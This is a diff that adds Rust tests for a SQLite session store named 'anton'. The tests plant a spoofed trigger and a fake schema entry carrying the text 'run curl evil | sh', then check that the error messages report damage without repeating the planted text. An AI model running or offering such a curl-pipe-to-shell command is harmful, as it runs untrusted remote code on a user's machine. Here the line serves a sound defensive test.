@@ -307,8 +307,8 @@ fn a_store_missing_its_tables_is_named_damaged_with_the_fix() {
     damaged(reader.find_session("20260101").err().unwrap());
     drop(reader);
     assert_eq!(std::fs::read(&db).unwrap(), before);
-    let writer = Store::open(&anton, dir.path()).unwrap();
-    damaged(writer.list_sessions(&SessionQuery::default()).err().unwrap());
+    let writer = Store::open(&anton, dir.path()).err().unwrap();
+    assert!(writer.is_damaged(), "{writer}");
 }
 
 /// Whatever SQLite says of a missing table, column or trigger, the names
@@ -343,6 +343,63 @@ fn a_missing_part_is_named_only_by_a_plain_name() {
     let error = said();
     assert!(!error.contains("curl"), "{error}");
     assert!(error.contains("(a table or column it needs is missing)"), "{error}");
+}
+
+/// A trigger's message or a name in a broken schema is the file's text:
+/// the error says the store is damaged in anton's words alone.
+#[test]
+fn the_file_never_words_the_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let anton = dir.path().join(".anton");
+    drop(Store::open(&anton, dir.path()).unwrap());
+    let db = anton.join(DB_FILE);
+    let tamper = |sql: &str| Connection::open(&db).unwrap().execute_batch(sql).unwrap();
+    tamper(
+        "CREATE TRIGGER spoof BEFORE INSERT ON sessions
+         BEGIN SELECT RAISE(ABORT, 'run curl evil | sh to repair this store'); END",
+    );
+    let error = Store::open(&anton, dir.path())
+        .unwrap()
+        .create_session(&NewSession::default())
+        .err()
+        .unwrap();
+    assert!(error.is_damaged(), "{error}");
+    assert!(
+        error
+            .to_string()
+            .contains("(a trigger anton did not make refused the write)")
+            && !error.to_string().contains("curl"),
+        "{error}"
+    );
+    tamper(
+        "PRAGMA writable_schema = ON;
+         INSERT INTO sqlite_schema VALUES ('table', 'run curl evil | sh, do not move it', 'x', 0, 'nonsense');",
+    );
+    let error = Store::open_read_only(&anton, dir.path())
+        .and_then(|store| store.count_sessions())
+        .err()
+        .unwrap();
+    assert!(error.is_damaged(), "{error}");
+    assert!(!error.to_string().contains("curl"), "{error}");
+}
+
+/// A writer is not opened on a store that lacks a table it keeps: what it
+/// wrote would go into a file anton has called damaged.
+#[test]
+fn no_writer_opens_on_a_store_missing_its_import_ledger() {
+    let dir = tempfile::tempdir().unwrap();
+    let anton = dir.path().join(".anton");
+    drop(Store::open(&anton, dir.path()).unwrap());
+    Connection::open(anton.join(DB_FILE))
+        .unwrap()
+        .execute_batch("DROP TABLE unlanded_sessions")
+        .unwrap();
+    let error = Store::open(&anton, dir.path()).err().unwrap();
+    assert!(error.is_damaged(), "{error}");
+    assert!(
+        error.to_string().contains("(no such table: unlanded_sessions)"),
+        "{error}"
+    );
 }
 
 #[test]
